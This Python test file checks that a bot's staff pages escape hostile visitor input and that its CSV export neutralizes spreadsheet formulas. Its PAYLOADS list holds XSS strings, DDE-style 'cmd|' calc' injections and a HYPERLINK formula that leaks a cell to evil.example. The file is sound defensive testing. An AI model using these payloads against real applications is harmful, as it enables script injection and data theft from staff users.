"""Hostile visitor text in every field and in the transcript: shown as text on every page,
never as markup or a link, and neutralized in the CSV export."""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser
from urllib.parse import quote

import pytest

from bot.staff.export import neutralize, to_csv
from bot.staff.pages import mailto_href, tel_href

from .conftest import Client, chat_request, page_csrf, stored_request

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "javascript:alert(1)",
    "'><svg/onload=alert(1)>",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
FIELDS = (
    "first_name",
    "phone",
    "email",
    "insurance",
    "for_whom",
    "contact_method",
    "contact_time",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


class _Elements(HTMLParser):
    """Every element the browser would build from the page, with its attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def assert_inert(html: str) -> None:
    """No payload survives as an element, an event handler or a script URL."""
    parser = _Elements()
    parser.feed(html)
    for tag, attrs in parser.elements:
        assert tag not in ("img", "svg", "iframe", "object"), tag
        if tag == "script":
            assert (attrs.get("src") or "").startswith("/staff/static/staff.js"), attrs
        assert not [a for a in attrs if a.startswith("on")], (tag, attrs)
        for name in ("href", "src", "action"):
            value = (attrs.get(name) or "").strip().lower()
            assert not value.startswith(("javascript:", "data:", "vbscript:")), (tag, attrs)
    assert "<script>alert" not in html


async def hostile_requests(client: Client) -> None:
    for payload in PAYLOADS:
        await stored_request(client, {name: payload for name in FIELDS})


async def test_every_field_is_escaped_in_the_list(staff: Client) -> None:
    await hostile_requests(staff)
    html = await (await staff.get("/staff/requests")).text()
    assert_inert(html)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;" in html


@pytest.mark.parametrize("payload", PAYLOADS[:5])
async def test_search_for_a_payload_is_escaped_too(staff: Client, payload: str) -> None:
    await stored_request(staff, {name: payload for name in FIELDS})
    resp = await staff.get(f"/staff/requests?q={quote(payload)}")
    html = await resp.text()
    assert_inert(html)
    assert 'id="request-row-1"' in html  # found, and shown as text


async def test_every_field_is_escaped_on_the_detail_page(staff: Client) -> None:
    await hostile_requests(staff)
    for request_id in range(1, len(PAYLOADS) + 1):
        html = await (await staff.get(f"/staff/requests/{request_id}")).text()
        assert_inert(html)
    first = await (await staff.get("/staff/requests/1")).text()
    assert 'id="field-first-name">&lt;script&gt;alert(1)&lt;/script&gt;<' in first
    assert 'id="field-insurance">&lt;script&gt;alert(1)&lt;/script&gt;<' in first


async def test_transcript_text_is_escaped(staff: Client) -> None:
    steps = [{"text": p.replace("\r", " ")} for p in PAYLOADS]
    cid = await chat_request(staff, steps)
    await stored_request(staff, {"first_name": "Safe"}, conversation_id=cid)
    html = await (await staff.get("/staff/requests/1")).text()
    transcript = html[html.index('id="transcript"') :]
    assert_inert(transcript)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in transcript
    assert "&#39;&gt;&lt;svg/onload=alert(1)&gt;" in transcript


async def test_notes_are_escaped(staff: Client) -> None:
    await stored_request(staff, {"first_name": "Noted"})
    csrf = await page_csrf(staff, "/staff/requests/1")
    for payload in PAYLOADS[:5]:
        await staff.post("/staff/requests/1/notes", data={"note": payload, "csrf_token": csrf})
    html = await (await staff.get("/staff/requests/1")).text()
    assert_inert(html)
    assert html.count("&lt;script&gt;alert(1)&lt;/script&gt;") == 1


async def test_contact_links_cannot_become_script_urls(staff: Client) -> None:
    await stored_request(
        staff,
        {
            "first_name": "Link",
            "phone": "javascript:alert(1)//+1 207",
            "email": "javascript:alert(1)//@x.org",
        },
    )
    html = await (await staff.get("/staff/requests/1")).text()
    assert_inert(html)
    assert 'href="tel:' not in html  # not a phone number: shown as text only
    assert 'id="field-phone">javascript:alert(1)//+1 207<' in html
    assert 'href="mailto:' not in html


async def test_csv_export_neutralizes_formulas_in_every_cell(staff: Client) -> None:
    await hostile_requests(staff)
    body = (await (await staff.get("/staff/requests/export.csv")).read()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert len(rows) == len(PAYLOADS) + 1
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    exported = {cell for row in rows[1:] for cell in row[3:12]}
    for payload in PAYLOADS:
        expected = "'" + payload if payload.startswith(FORMULA_START) else payload
        assert expected in exported, payload


def test_neutralize_rules() -> None:
    assert neutralize("=1+1") == "'=1+1"
    assert neutralize("+1") == "'+1"
    assert neutralize("-1") == "'-1"
    assert neutralize("@x") == "'@x"
    assert neutralize("\tx") == "'\tx"
    assert neutralize("\rx") == "'\rx"
    assert neutralize("plain = text") == "plain = text"
    assert neutralize(None) == ""
    assert neutralize(True) == "yes"
    assert neutralize(12) == "12"


def test_to_csv_quotes_and_neutralizes() -> None:
    text = to_csv(["a", "b"], [['x,"y"', "=cmd"]])
    assert text == 'a,b\r\n"x,""y""",\'=cmd\r\n'


def test_link_builders() -> None:
    assert tel_href("+1 (207) 555-0142") == "tel:+12075550142"
    assert tel_href("<script>") == ""
    assert tel_href("javascript:alert(1)") == ""
    assert mailto_href("a@example.org") == "mailto:a@example.org"
    assert mailto_href("o'brien+iop@example.org") == "mailto:o%27brien+iop@example.org"
    assert mailto_href('a"><b@example.org') == ""
    assert mailto_href("javascript:alert(1)//@x.org") == ""
    assert mailto_href("no-at-sign") == ""
